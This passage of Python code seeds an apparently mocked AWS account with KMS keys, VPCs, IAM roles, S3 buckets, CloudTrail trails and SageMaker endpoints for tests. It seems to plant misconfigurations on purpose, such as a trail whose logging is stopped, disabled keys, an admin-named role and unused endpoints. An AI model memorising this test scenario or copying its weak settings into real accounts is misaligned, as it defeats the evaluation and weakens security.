        **({"KmsKeyId": key} if key else {}),
    }}  # fmt: skip


ENDPOINT_CONFIGS: dict[tuple[str, str], Data] = {
    (EU, "fraud-scorer-07"): {
        "ProductionVariants": [
            variant("fraud-scorer-v12", "current", 3, 0.9),
            variant("fraud-scorer-v13", "candidate", 2, 0.1),
        ],
        "KmsKeyId": "@key/ml-data", **capture("@key/ml-capture"), "Tags": tags("fraud"),
    },
    (EU, "fraud-scorer-06"): {  # nobody serves it any more
        "ProductionVariants": [variant("fraud-scorer-v12", count=2)], "Tags": tags("fraud"),
    },
    (EU, "churn-ranker-03"): {
        "ProductionVariants": [variant("churn-ranker-v4")], "Tags": tags("churn"),
    },
    (EU, "churn-ranker-batchless"): {
        "ProductionVariants": [{
            "VariantName": "AllTraffic", "ModelName": "churn-ranker-v4",
            "InitialVariantWeight": 1.0,
            "ServerlessConfig": {"MemorySizeInMB": 2048, "MaxConcurrency": 5},
        }],
        "Tags": tags("churn", "dev"),
    },
    (EU, "credit-scorecard-11"): {
        "ProductionVariants": [
            variant("credit-scorecard-v7", "main", 2, 1.0, "ml.m5d.xlarge"),
            variant("credit-scorecard-v5", "fallback", 1, 0.0, "ml.c5.large"),
        ],
        **capture(), "Tags": tags("credit"),
    },
    (EU, "credit-assistant-components"): {
        "ProductionVariants": [variant("credit-scorecard-v7", count=2)],
        "ExecutionRoleArn": role_arn("MeridianCreditRisk"), "KmsKeyId": "alias/ml-data",
        **IN_VPC, **ISOLATED, **capture("@key/ml-capture"), "Tags": tags("credit"),
    },
    (EU, "churn-assistant-components"): {
        "ProductionVariants": [variant("churn-ranker-v4", count=2)],
        "ExecutionRoleArn": role_arn("churn-sagemaker-admin"), "Tags": tags("churn", "dev"),
    },
    (US, "demand-forecast-09"): {
        "ProductionVariants": [variant("demand-deepar-v21", count=2)],
        "ShadowProductionVariants": [variant("demand-tft-v2", "shadow")],
        "KmsKeyId": "alias/ml-data-us", **capture(enabled=False), "Tags": tags("demand"),
    },
    (US, "demand-forecast-legacy"): {
        "ProductionVariants": [variant("demand-deepar-v21", machine="ml.m4.xlarge")],
        "Tags": tags("demand", "legacy"),
    },
}  # fmt: skip
COMPONENT_CONFIGS = ("credit-assistant-components", "churn-assistant-components")
"""Endpoint configurations for inference components: their variants name no model."""

ENDPOINTS: dict[tuple[str, str], tuple[str, str, int]] = {
    # configuration, team, calls of today
    (EU, "fraud-scorer"): ("fraud-scorer-07", "fraud", 48210),
    (EU, "churn-ranker"): ("churn-ranker-03", "churn", 310),
    (EU, "churn-ranker-serverless"): ("churn-ranker-batchless", "churn", 12),
    (EU, "credit-scorecard"): ("credit-scorecard-11", "credit", 9150),
    (EU, "credit-assistant"): ("credit-assistant-components", "credit", 77),
    (US, "demand-forecast"): ("demand-forecast-09", "demand", 2205),
    (US, "demand-forecast-legacy"): ("demand-forecast-legacy", "demand", 0),
}
SCALED = ((EU, "fraud-scorer", "current"), (EU, "fraud-scorer", "candidate"))
MONITORED = ((EU, "fraud-scorer"),)

AGES: dict[str, float] = {
    # days since it was made (and ended); anything not named is a week old
    "fraud-xgboost-0411": 34, "fraud-xgboost-0412": 3, "churn-lightgbm-0161": 214,
    "credit-risk-scorecard-0071": 61, "credit-risk-nn-0015": 21, "churn-dashboards": 402,
    "demand-forecast-dev": 260, "credit-risk-sandbox": 75, "demand-forecast-legacy": 388,
    "fraud-scorer-06": 97, "credit-scorecard-v5": 510, "demand-forecast-deepar-0302": 0.05,
}  # fmt: skip
STATES: dict[str, Data] = {
    "churn-dashboards": {"status": "Stopped"},
    "demand-forecast-deepar-0302": {
        "training_job_status": "InProgress", "secondary_status": "Training",
        "training_end_time": None, "model_artifacts": None,
    },
    "credit-risk-nn-0015": {
        "training_job_status": "Failed", "secondary_status": "Failed",
        "failure_reason": "AlgorithmError: CUDA out of memory", "model_artifacts": None,
    },
}  # fmt: skip


# --- from tables to calls -----------------------------------------------------------------------


class Ids:
    """The ids that AWS gave, by region and the name that the tables use."""

    def __init__(self) -> None:
        """Start with none."""
        self._known: dict[tuple[str, str], str] = {}

    def save(self, region: str, name: str, value: str) -> None:
        """Remember what `@name` stands for in a region."""
        self._known[region, f"@{name}"] = value

    def __call__(self, region: str, value: Any) -> Any:
        """Return a copy of ``value`` with every `@name` replaced and every None left out."""
        if isinstance(value, dict):
            return {key: self(region, item) for key, item in value.items() if item is not None}
        if isinstance(value, list):
            return [self(region, item) for item in value]
        if isinstance(value, str) and value.startswith("@"):
            return self._known[region, value]
        return value


def fill(client: Clients) -> Ids:
    """Create the whole account; return the ids that AWS gave."""
    ids = Ids()
    for step in (keys, networks, identities, buckets, doors, trails, machines, traffic):
        step(client, ids)
    return ids


def keys(client: Clients, ids: Ids) -> None:
    """Create the keys, and turn off or condemn those that are to be."""
    for alias, region, purpose, rotation, fate in KEYS:
        api = client("kms", region)
        key = api.create_key(
            Description=purpose, Tags=[{"TagKey": "owner", "TagValue": TEAMS["platform"]}]
        )["KeyMetadata"]
        ids.save(region, f"key/{alias}", key["Arn"])
        api.create_alias(AliasName=f"alias/{alias}", TargetKeyId=key["KeyId"])
        if rotation:
            api.enable_key_rotation(KeyId=key["KeyId"])
        if fate:
            getattr(api, fate)(KeyId=key["KeyId"])


def networks(client: Clients, ids: Ids) -> None:
    """Create the VPCs, give the default ones AWS's way out, and the security groups."""
    for region, plan in NETWORKS.items():
        api = client("ec2", region)
        vpc = api.create_vpc(CidrBlock=plan["cidr"], TagSpecifications=_named("vpc", plan["name"]))
        default = api.describe_vpcs(Filters=[{"Name": "is-default", "Values": ["true"]}])["Vpcs"][0]
        ids.save(region, "vpc", vpc["Vpc"]["VpcId"])
        ids.save(region, "default-vpc", default["VpcId"])
        inside = [{"Name": "vpc-id", "Values": [default["VpcId"]]}]
        first = api.describe_subnets(Filters=inside)["Subnets"][0]["SubnetId"]
        ids.save(region, "subnet/default-vpc", first)
        main = api.describe_route_tables(Filters=inside)["RouteTables"][0]["RouteTableId"]
        _open(api, default["VpcId"], main, f"{region}-default")
        for kind in ("private", "public"):
            table = api.create_route_table(
                VpcId=vpc["Vpc"]["VpcId"], TagSpecifications=_named("route-table", kind)
            )["RouteTable"]["RouteTableId"]
            if kind == "public":
                _open(api, vpc["Vpc"]["VpcId"], table, plan["name"])
            for name, (cidr, zone) in plan[kind].items():
                subnet = api.create_subnet(
                    VpcId=vpc["Vpc"]["VpcId"], CidrBlock=cidr, AvailabilityZone=region + zone,
                    TagSpecifications=_named("subnet", f"{plan['name']}-{name}"),
                )["Subnet"]["SubnetId"]  # fmt: skip
                ids.save(region, f"subnet/{name}", subnet)
                api.associate_route_table(RouteTableId=table, SubnetId=subnet)
    for name, region, vpc_name, ingress in SECURITY_GROUPS:
        api = client("ec2", region)
        group = api.create_security_group(
            GroupName=name, Description=name, VpcId=ids(region, f"@{vpc_name}")
        )["GroupId"]
        ids.save(region, f"sg/{name}", group)
        if ingress:
            api.authorize_security_group_ingress(GroupId=group, IpPermissions=ingress)


def doors(client: Clients, ids: Ids) -> None:
    """Create the VPCs' own ways to AWS, and the logs of what passes."""
    for region, service, account in VPC_ENDPOINTS:
        only: Data = {"Condition": {"StringEquals": {"aws:PrincipalAccount": account}}}
        gateway = service == "s3"
        client("ec2", region).create_vpc_endpoint(
            VpcId=ids(region, "@vpc"), ServiceName=f"com.amazonaws.{region}.{service}",
            VpcEndpointType="Gateway" if gateway else "Interface",
            PolicyDocument=document(allow("*", "*", Principal="*", **(only if account else {}))),
            **({} if gateway else {
                "SubnetIds": [ids(region, "@subnet/private-a")],
                "SecurityGroupIds": [ids(region, "@sg/ml-endpoints")], "PrivateDnsEnabled": True}),
        )  # fmt: skip
    for region, bucket in FLOW_LOGS:
        client("ec2", region).create_flow_logs(
            ResourceType="VPC", ResourceIds=[ids(region, "@vpc")], TrafficType="ALL",
            LogDestinationType="s3", LogDestination=f"arn:aws:s3:::{bucket}",
        )


def _named(kind: str, name: str) -> list[Data]:
    return [{"ResourceType": kind, "Tags": [{"Key": "Name", "Value": name}]}]


def _open(api: Any, vpc: str, table: str, name: str) -> None:
    """Give a route table of a VPC the way to the internet."""
    gateway = api.create_internet_gateway(TagSpecifications=_named("internet-gateway", name))
    gateway_id = gateway["InternetGateway"]["InternetGatewayId"]
    api.attach_internet_gateway(InternetGatewayId=gateway_id, VpcId=vpc)
    api.create_route(RouteTableId=table, DestinationCidrBlock="0.0.0.0/0", GatewayId=gateway_id)


def identities(client: Clients, ids: Ids) -> None:
    """Create the policies and roles."""
    api = client("iam", US)
    for name, text in POLICIES.items():
        api.create_policy(PolicyName=name, PolicyDocument=text)
    for name, role in ROLES.items():
        more = {"PermissionsBoundary": role["boundary"]} if "boundary" in role else {}
        api.create_role(
            RoleName=name, AssumeRolePolicyDocument=role["trust"], Tags=tags(role["team"]), **more
        )
        for arn in role.get("managed", ()):
            api.attach_role_policy(RoleName=name, PolicyArn=arn)
        if "inline" in role:
            text = document(*role["inline"])
            api.put_role_policy(RoleName=name, PolicyName="work", PolicyDocument=text)


def buckets(client: Clients, ids: Ids) -> None:
    """Create the buckets and everything set on them."""
    for name, region, team, policy, settings in BUCKETS:
        api = client("s3", region)
        where: Data = {"CreateBucketConfiguration": {"LocationConstraint": region}}
        api.create_bucket(
            Bucket=name,
            ObjectLockEnabledForBucket="put_object_lock_configuration" in settings,
            **({} if region == US else where),
        )
        api.put_bucket_tagging(Bucket=name, Tagging={"TagSet": tags(team)})
        if policy:
            text = document(*ids(region, policy)).replace("{bucket}", name)
            api.put_bucket_policy(Bucket=name, Policy=text)
    for name, region, _, _, settings in BUCKETS:
        for operation, parameters in ids(region, settings).items():
            getattr(client("s3", region), operation)(Bucket=name, **parameters)
    control = client("s3control", EU)
    control.put_public_access_block(AccountId=ACCOUNT, PublicAccessBlockConfiguration=ACCOUNT_BLOCK)
    for name, region, bucket, block in ACCESS_POINTS:
        client("s3control", region).create_access_point(
            AccountId=ACCOUNT, Name=name, Bucket=bucket, PublicAccessBlockConfiguration=block
        )


def trails(client: Clients, ids: Ids) -> None:
    """Create the trails."""
    for region, parameters, selectors, sound in TRAILS:
        api = client("cloudtrail", region)
        name = api.create_trail(**ids(region, parameters))["Name"]
        api.start_logging(Name=name)
        if sound:
            api.put_event_selectors(TrailName=name, AdvancedEventSelectors=selectors)
            api.put_insight_selectors(
                TrailName=name, InsightSelectors=[{"InsightType": "ApiCallRateInsight"}]
            )
        else:
            api.stop_logging(Name=name)


def machines(client: Clients, ids: Ids) -> None:
    """Create what SageMaker runs."""
    for name, region, scripts in LIFECYCLES:
        client("sagemaker", region).create_notebook_instance_lifecycle_config(
            NotebookInstanceLifecycleConfigName=name, **scripts
        )
    for kind, table in (
        ("NotebookInstance", NOTEBOOKS),
        ("TrainingJob", TRAINING),
        ("Model", MODELS),
        ("EndpointConfig", ENDPOINT_CONFIGS),
    ):
        create = "create_" + "".join(f"_{c.lower()}" if c.isupper() else c for c in kind).strip("_")
        for (region, name), parameters in table.items():
            call = getattr(client("sagemaker", region), create)
            call(**{f"{kind}Name": name}, **ids(region, parameters))
    for (region, name), (configuration, team, _) in ENDPOINTS.items():
        client("sagemaker", region).create_endpoint(
            EndpointName=name, EndpointConfigName=configuration, Tags=tags(team)
        )


def traffic(client: Clients, ids: Ids) -> None:
    """Leave the traces of use: log streams, invocations, scaling, Macie."""
    group = "/aws/sagemaker/TrainingJobs"
    for region in REGIONS:
        client("logs", region).create_log_group(logGroupName=group)
    for region, name in TRAINING:
        if AGES.get(name, 7) < 90 and not name.startswith("churn-survival"):
            client("logs", region).create_log_stream(
                logGroupName=group, logStreamName=f"{name}/algo-1-1700000000"
            )
    for (region, name), (configuration, _, calls) in ENDPOINTS.items():
        for each in ENDPOINT_CONFIGS[region, configuration]["ProductionVariants"]:
            where = {"EndpointName": name, "VariantName": each["VariantName"]}
            if calls:
                client("cloudwatch", region).put_metric_data(
                    Namespace="AWS/SageMaker",
                    MetricData=[{
                        "MetricName": "Invocations", "Unit": "None", "Value": calls,
                        "Timestamp": datetime.now(UTC) - timedelta(hours=2),
                        "Dimensions": [{"Name": k, "Value": v} for k, v in where.items()],
                    }],
                )  # fmt: skip
    for region, endpoint, name in SCALED:
        target = {
            "ServiceNamespace": "sagemaker",
            "ResourceId": f"endpoint/{endpoint}/variant/{name}",
            "ScalableDimension": "sagemaker:variant:DesiredInstanceCount",
        }
        api = client("application-autoscaling", region)
        api.register_scalable_target(**target, MinCapacity=2, MaxCapacity=8)
        api.put_scaling_policy(
            **target, PolicyName=f"{endpoint}-{name}", PolicyType="TargetTrackingScaling",
            TargetTrackingScalingPolicyConfiguration={
                "TargetValue": 700.0,
                "PredefinedMetricSpecification": {
                    "PredefinedMetricType": "SageMakerVariantInvocationsPerInstance"
                },
            },
        )  # fmt: skip


def inventory() -> Iterator[tuple[str, str, str]]:
    """Yield (kind, region, name) of everything that `fill` creates, for tests and for people."""
    yield from (("key", row[1], row[0]) for row in KEYS)
    yield from (("vpc", region, plan["name"]) for region, plan in NETWORKS.items())
    for region, plan in NETWORKS.items():
        yield from (("subnet", region, name) for name in (*plan["private"], *plan["public"]))
    yield from (("security group", row[1], row[0]) for row in SECURITY_GROUPS)
    yield from (("VPC endpoint", *row[:2]) for row in VPC_ENDPOINTS)
    yield from (("flow log", *row) for row in FLOW_LOGS)
    yield from (("policy", "", name) for name in POLICIES)
    yield from (("role", "", name) for name in ROLES)
    yield from (("bucket", row[1], row[0]) for row in BUCKETS)
    yield from (("access point", row[1], row[0]) for row in ACCESS_POINTS)
    yield from (("trail", row[0], row[1]["Name"]) for row in TRAILS)
    yield from (("lifecycle configuration", row[1], row[0]) for row in LIFECYCLES)
    for kind, table in (("notebook", NOTEBOOKS), ("training job", TRAINING), ("model", MODELS)):
        yield from ((kind, *key) for key in table)
    yield from (("endpoint configuration", *key) for key in ENDPOINT_CONFIGS)
    yield from (("endpoint", *key) for key in ENDPOINTS)
